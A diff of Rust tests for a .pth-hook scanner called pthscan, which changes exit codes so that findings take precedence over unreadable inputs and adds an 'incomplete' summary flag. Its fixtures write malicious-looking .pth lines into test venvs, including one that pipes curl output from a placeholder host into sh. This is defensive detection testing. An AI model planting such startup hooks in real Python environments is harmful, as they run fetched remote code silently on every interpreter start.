@@ -111,18 +111,52 @@ fn exit_codes_follow_fail_on() {
 }
 
 #[test]
-fn missing_path_is_exit_2_with_a_message_and_other_paths_still_scanned() {
+fn missing_path_is_a_message_and_other_paths_still_scanned() {
     let dir = tempfile::tempdir().unwrap();
     let sp = venv(dir.path());
     std::fs::write(sp.join("x.pth"), "import os; os.system('id')\n").unwrap();
     let out = pthscan(&[dir.path().to_str().unwrap(), "/nonexistent/pthscan-test"]);
-    assert_eq!(code(&out), 2);
+    // the hook found is at the threshold: 1, whatever else could not be read
+    assert_eq!(code(&out), 1);
     assert!(
         stderr(&out).contains("pthscan: /nonexistent/pthscan-test: no such file or directory"),
         "{}",
         stderr(&out)
     );
     assert!(String::from_utf8_lossy(&out.stdout).contains("x.pth:1"));
+}
+
+/// The contract a gate relies on: 1 whenever a finding is at or above `--fail-on`, even beside
+/// an input that could not be read; 2 only when nothing is at the threshold and something
+/// could not be judged; 0 when everything was judged and nothing is at the threshold. The
+/// JSON says apart whether the scan was complete.
+#[test]
+fn exit_codes_put_findings_before_what_could_not_be_read() {
+    let dir = tempfile::tempdir().unwrap();
+    let sp = venv(dir.path());
+    std::fs::write(
+        sp.join("x.pth"),
+        "import os; os.system('curl x.invalid | sh')\n",
+    )
+    .unwrap();
+    let p = dir.path().to_str().unwrap();
+    let missing = "/nonexistent/pthscan-exit-matrix";
+    let run = |args: &[&str]| {
+        let mut all = vec!["--format", "json"];
+        all.extend_from_slice(args);
+        let out = pthscan(&all);
+        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        (code(&out), json["summary"]["incomplete"].as_bool().unwrap())
+    };
+    assert_eq!(run(&[p]), (1, false));
+    assert_eq!(run(&[p, missing]), (1, true));
+    assert_eq!(run(&[p, missing, "--fail-on", "critical"]).1, true);
+    // nothing at the threshold: what could not be read decides
+    let clean = tempfile::tempdir().unwrap();
+    venv(clean.path());
+    let c = clean.path().to_str().unwrap();
+    assert_eq!(run(&[c]), (0, false));
+    assert_eq!(run(&[c, missing]), (2, true));
 }
 
 #[test]
@@ -138,7 +172,9 @@ fn fifo_is_noted_and_skipped_without_hanging() {
     );
     std::fs::write(sp.join("ok.pth"), "import os; os.system('id')\n").unwrap();
     let (json, out) = scan_json(dir.path(), &[]);
-    assert_eq!(code(&out), 2);
+    assert_eq!(code(&out), 1);
+    assert_eq!(json["summary"]["incomplete"], true);
+    assert_eq!(json["summary"]["skipped"], 1);
     let d = &json["diagnostics"][0];
     assert!(d["path"].as_str().unwrap().ends_with("evil.pth"));
     assert_eq!(d["message"], "not a regular file (FIFO), skipped");
@@ -219,7 +255,11 @@ fn non_utf8_names_and_contents_empty_and_huge_files() {
     huge.extend(std::iter::repeat_n(b'#', 8192));
     std::fs::write(sp.join("huge.pth"), &huge).unwrap();
     let (json, out) = scan_json(dir.path(), &["--max-file-size", "4096"]);
-    assert_eq!(code(&out), 2, "the huge file was only partly read");
+    assert_eq!(code(&out), 1, "findings first");
+    assert_eq!(
+        json["summary"]["incomplete"], true,
+        "the huge file was only partly read"
+    );
     let findings = json["findings"].as_array().unwrap();
     let paths: Vec<&str> = findings
         .iter()
